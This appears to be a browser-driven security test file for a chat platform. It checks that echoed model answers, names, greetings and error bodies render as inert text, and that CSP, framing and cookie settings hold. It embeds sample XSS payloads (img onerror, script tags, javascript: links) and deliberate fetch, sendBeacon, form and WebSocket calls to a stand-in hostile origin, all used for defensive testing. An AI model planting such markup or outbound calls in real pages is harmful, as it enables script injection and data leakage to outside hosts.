// The model's words are hostile: the echo model says whatever this test wants it to say. Each payload of
// corpus.json goes through the whole platform: as a visitor's message, as the model's answer, and
// as history after a reload.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { launch, openChat } from './browser.mjs';
import { openEchoChat } from './platform.mjs';
import { Stranger, layCanaries } from './stranger.mjs';

const CORPUS = JSON.parse(readFileSync(new URL('corpus.json', import.meta.url), 'utf8'));
/** What a model's words may become; `markdown.ts` has the same list. */
const ALLOWED = 'P H3 H4 H5 H6 DIV SPAN BUTTON PRE CODE EM STRONG S A BLOCKQUOTE BR HR UL OL LI TABLE THEAD TBODY TR TH TD'.split(' ');
const ATTRIBUTES = 'class href target rel tabindex type start'.split(' ');
const PAGES_AT_ONCE = 4;
/** Answers that are cut between all their characters take longer, so they are fewer. */
const CUT_KINDS = ['links: other', 'images', 'splits'];

let browser;
let stranger;
before(async () => {
  stranger = await Stranger.listen();
  browser = await launch(stranger.browserArguments);
});
after(async () => {
  await browser?.close();
  stranger?.close();
});

const opened = (chatUrl) => openChat(browser, chatUrl, { before: (page) => page.addInitScript(layCanaries) });

/** Lists what is in the conversation and should not be. */
async function harm(chat) {
  return chat.page.evaluate(
    ([allowed, attributes]) => {
      const found = [];
      for (const node of document.querySelectorAll('.md *')) {
        const odd = [...node.attributes].filter(({ name }) => !attributes.includes(name));
        if (!allowed.includes(node.tagName) || odd.length > 0) found.push(node.outerHTML.slice(0, 200));
      }
      for (const node of document.querySelectorAll('.bubble *, .entry.notice p *, .header-title *, h2 *')) {
        if (!node.closest('.md')) found.push(node.outerHTML.slice(0, 200));
      }
      for (const node of document.querySelectorAll('.md a')) {
        if (!node.hasAttribute('href')) continue;
        const kept = [new URL(node.href).protocol, node.rel, node.target].join(' ');
        if (!/^(https?|mailto): noopener noreferrer nofollow _blank$/.test(kept)) found.push(kept);
        if (node.href.startsWith(location.origin)) found.push(`points home: ${node.href}`);
      }
      if (document.querySelectorAll('iframe, object, embed, base, form:not(.composer), style, video, audio, img:not(header img)').length > 0) found.push('an element of the page');
      return found;
    },
    [ALLOWED, ATTRIBUTES],
  );
}

const framed = (payload, index) => `begin${index}\n\n${stranger.meant(payload.text)}\n\nend${index}`;

/** Sends payloads and holds every answer against what was sent. Returns the open page. */
async function converse(chatUrl, payloads) {
  const chat = await opened(chatUrl);
  await chat.online();
  for (const [index, payload] of payloads.entries()) {
    await chat.say(framed(payload, index));
    const answers = await chat.answers(index + 1);
    const text = await answers.last().innerText();
    for (const word of [`begin${index}`, `end${index}`]) {
      assert.ok(text.includes(word), `${payload.kind}: ${payload.text.slice(0, 80)} swallowed ${word}: ${text.slice(0, 200)}`);
    }
  }
  return chat;
}

async function assertUnharmed(chat, chatUrl) {
  assert.deepEqual(await harm(chat), []);
  assert.deepEqual(chat.complaints, []);
  assert.equal(chat.page.url(), chatUrl);
  assert.equal(stranger.connections, 0);
}

test(`${CORPUS.length} payloads run no script, ask no stranger, and are shown`, async () => {
  assert.ok(CORPUS.length >= 120);
  const part = async (number) => {
    const payloads = CORPUS.filter((_, index) => index % PAGES_AT_ONCE === number);
    const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
    const chat = await converse(chatUrl, payloads);
    await assertUnharmed(chat, chatUrl);
    // The same from the history, drawn at once.
    await chat.page.reload();
    await chat.answers(payloads.length);
    await assertUnharmed(chat, chatUrl);
    const shown = await chat.page.locator('.log-frame').innerText();
    for (const index of payloads.keys()) assert.ok(shown.includes(`end${index}`), `end${index} after a reload`);
    // To point at a link asks nobody either.
    for (const link of (await chat.page.locator('.md a[href]').all()).slice(0, 5)) await link.hover();
    await assertUnharmed(chat, chatUrl);
    await chat.close();
  };
  await Promise.all(Array.from({ length: PAGES_AT_ONCE }, (_, number) => part(number)));
  console.log(`# ${CORPUS.length} payloads, ${stranger.connections} connections to strangers`);
});

test('a link that is pressed opens apart, and knows nothing of where it was', async (t) => {
  // Whoever presses a link does ask the stranger: in a browser of its own.
  const other = await launch();
  t.after(() => other.close());
  const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
  const chat = await openChat(other, chatUrl, { before: (page) => page.addInitScript(layCanaries) });
  await chat.online();
  const links = CORPUS.filter(({ kind, text }) => kind.startsWith('links') && text.length < 200);
  await chat.say(links.map(({ text }) => text).join('\n\n'));
  await chat.answers(1);
  const referrers = [];
  await chat.context.route(/^https:/, (route) => {
    referrers.push(route.request().headers().referer ?? 'none');
    return route.fulfill({ contentType: 'text/html', body: '<title>elsewhere</title>' });
  });
  const pages = [];
  chat.context.on('page', (page) => pages.push(page));
  for (const link of (await chat.page.locator('.md a[href^="https:"]').all()).slice(0, 8)) await link.dispatchEvent('click');
  for (let waits = 0; waits < 100 && (pages.length < 4 || referrers.length === 0); waits += 1) await chat.page.waitForTimeout(100);
  assert.ok(pages.length > 3, `${pages.length} pages`);
  for (const page of pages) assert.ok(await page.evaluate(() => window.opener === null));
  assert.deepEqual([...new Set(referrers)], ['none']);
  assert.equal(chat.page.url(), chatUrl);
  const own = chat.complaints.filter((complaint) => !complaint.startsWith('foreign request'));
  assert.deepEqual(own, []);
});

test('payloads that are cut between all their characters are no less tame', async () => {
  const { chatUrl } = await openEchoChat({ model: 'echo-cut' });
  const payloads = CORPUS.filter(({ kind, text }) => CUT_KINDS.includes(kind) && text.length < 100);
  assert.ok(payloads.length > 20);
  const chat = await converse(chatUrl, payloads);
  await assertUnharmed(chat, chatUrl);
  await chat.close();
});

test('names and greetings are text', async () => {
  const name = '"><img src=x onerror=window.pwned=1>';
  const greeting = stranger.meant(`<script>window.pwned=1</script><img src={{EVIL}}/g.gif>[x](javascript:window.pwned=1)`);
  const { chatUrl } = await openEchoChat({ model: 'echo-fast', names: { tenant: name, route: name, assistant: name, channel: name, greeting } });
  const chat = await opened(chatUrl);
  await chat.online();
  await chat.page.getByText(greeting).waitFor();
  await chat.say('hello');
  await chat.answers(1);
  await assertUnharmed(chat, chatUrl);
  await chat.close();
});

test('what the server says when it refuses is text', async () => {
  const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
  const hostile = '<img src=x onerror=window.pwned=1>';
  const context = await browser.newContext();
  const page = await context.newPage();
  const complaints = [];
  page.on('console', (message) => message.text().startsWith('canary') && complaints.push(message.text()));
  await page.addInitScript(layCanaries);
  await page.route('**/v1/web/**', (route) =>
    route.fulfill({
      status: 409,
      contentType: 'application/problem+json',
      body: JSON.stringify({ type: hostile, title: hostile, status: 409, code: hostile, detail: hostile, request_id: hostile }),
    }),
  );
  await page.goto(chatUrl);
  await page.locator('#app *').first().waitFor();
  await page.waitForTimeout(500);
  assert.equal(await page.locator('#app img[src=x]').count(), 0);
  assert.deepEqual(complaints, []);
  await context.close();
});

test('the policy would stop a script even if one got into the page', async () => {
  const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
  const chat = await openChat(browser, chatUrl);
  const directives = ['img-src', 'frame-src', 'style-src-elem', 'form-action', 'connect-src', 'require-trusted-types-for', 'trusted-types'];
  const blocked = await chat.page.evaluate(async ({ evil, wanted }) => {
    const seen = [];
    const refused = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const attempt = (name, act) => {
      try {
        act();
      } catch (error) {
        refused.push(`${name}: ${error.name}`);
      }
    };
    // Text does not become markup at all: the page makes no trusted types.
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">'));
    attempt('innerHTML', () => (document.createElement('div').innerHTML = '<b>'));
    attempt('write', () => document.write('<b>'));
    attempt('timer', () => setTimeout('window.pwned=1', 0));
    attempt('policy', () => trustedTypes.createPolicy('own', { createHTML: (text) => text }));
    const image = new Image();
    attempt('handler', () => image.setAttribute('onerror', 'window.pwned=1'));
    image.src = `${evil}/x.gif`;
    const frame = document.createElement('iframe');
    frame.src = `${evil}/`;
    const sheet = document.createElement('link');
    Object.assign(sheet, { rel: 'stylesheet', href: `${evil}/x.css` });
    const font = document.createElement('style');
    font.textContent = `@import "${evil}/y.css"`;
    const form = document.createElement('form');
    form.action = `${evil}/`;
    document.body.append(image, frame, sheet, font, form);
    form.submit();
    await fetch(evil).catch(() => {});
    navigator.sendBeacon(`${evil}/beacon`, 'x');
    attempt('socket', () => new WebSocket(evil.replace('http', 'ws')));
    attempt('worker', () => new Worker('data:text/javascript,1'));
    const pause = () => new Promise((resolve) => setTimeout(resolve, 100));
    for (let waits = 0; waits < 100 && !wanted.every((directive) => seen.includes(directive)); waits += 1) await pause();
    // And then for what should not come.
    for (let waits = 0; waits < 3; waits += 1) await pause();
    return { seen, refused, pwned: window.pwned ?? null };
  }, { evil: stranger.origin, wanted: directives });
  assert.equal(blocked.pwned, null);
  for (const name of ['insertAdjacentHTML', 'innerHTML', 'write', 'timer', 'policy', 'handler']) {
    assert.ok(blocked.refused.some((refused) => refused.startsWith(name)), `${name}: ${blocked.refused}`);
  }
  for (const directive of directives) {
    assert.ok(blocked.seen.includes(directive), `${directive}: ${blocked.seen}`);
  }
  // The browser may open a connection for a form before it asks the policy; it says nothing on it.
  assert.equal(stranger.requests, 0);
  await chat.close();
});

test('no page may be framed by a stranger, and nothing is kept in cookies', async () => {
  const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
  const chat = await opened(chatUrl);
  await chat.online();
  for (const path of [chatUrl, '/docs', '/docs/errors', '/livez', '/none']) {
    const response = await chat.page.request.get(new URL(path, chatUrl).href);
    const headers = response.headers();
    assert.match(headers['content-security-policy'], /^default-src 'none'; .*frame-ancestors '(self|none)'/, path);
    assert.doesNotMatch(headers['content-security-policy'], /unsafe|\*/, path);
    assert.equal(headers['x-content-type-options'], 'nosniff', path);
    assert.equal(headers['referrer-policy'], 'no-referrer', path);
    assert.equal(headers['cross-origin-resource-policy'], 'same-origin', path);
    assert.equal(headers['set-cookie'], undefined, path);
  }
  assert.deepEqual(await chat.context.cookies(), []);
  // Another origin tries.
  await chat.context.route('https://framer.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${chatUrl}"></iframe><iframe src="${new URL('/docs', chatUrl)}"></iframe>` }),
  );
  const framer = await chat.context.newPage();
  await framer.goto('https://framer.example/');
  await framer.waitForTimeout(500);
  for (const frame of framer.frames().slice(1)) {
    assert.equal(await frame.locator('textarea, #reference').count(), 0, frame.url());
  }
  await chat.close();
});
